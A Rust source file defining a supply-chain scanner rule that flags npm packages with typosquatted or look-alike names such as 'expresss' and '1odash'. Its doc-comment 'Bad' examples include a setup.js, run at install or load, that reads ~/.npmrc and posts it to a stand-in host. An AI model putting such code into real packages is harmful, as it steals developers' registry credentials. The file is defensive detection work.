//! # The name is a popular name with a slip of the fingers
//!
//! The package's name differs from a popular one by swapped, missing or doubled letters, a neighbouring key, a character
//! that looks alike, separators, or `.js` behind it.
//!
//! ## Why it matters
//!
//! Who mistypes a name gets such a package. Its code then runs in the place of the one that was meant.
//!
//! ## Known benign uses
//!
//! Forks, ports and old packages are near popular ones too. So it never decides alone, and popular names are never
//! look-alikes themselves.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "expresss", "version": "4.18.9", "scripts": {"preinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "1odash", "version": "4.17.22", "main": "setup.js"}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
//! const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
//! const request = https.request({ hostname: "collector.invalid", method: "POST" });
//! request.write(text);
//! request.end();
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "preact", "version": "10.0.0", "main": "index.js"}
//! == index.js
//! exports.h = (type, props, ...children) => ({ type, props: { ...props, children } });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "oxlint", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.version = "1.0.0";
//! ```
//!
//! ## References
//!
//! - Zimmermann et al.: Small World with High Risks (USENIX Security 2019)
//! - npm-high-impact, the list of popular names

use stockade_facts::lookalike::{self, LookAlike};

use crate::prelude::*;

/// The name is a popular name with a slip of the fingers.
pub struct LookAlikeName;

impl Rule for LookAlikeName {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "look-alike-name",
            title: "The name is a popular name with a slip of the fingers",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1036.005",
            covers: &["typosquat", "homoglyph-name"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let Some(name) = facts.published_name() else { return };
        if let Some(LookAlike { target, slip }) = lookalike::name(name) {
            let does = format!("is called `{}`, which is `{target}` {}", excerpt(name, 80), slip.phrase());
            found.in_manifest(&["name"], &does);
        }
    }
}
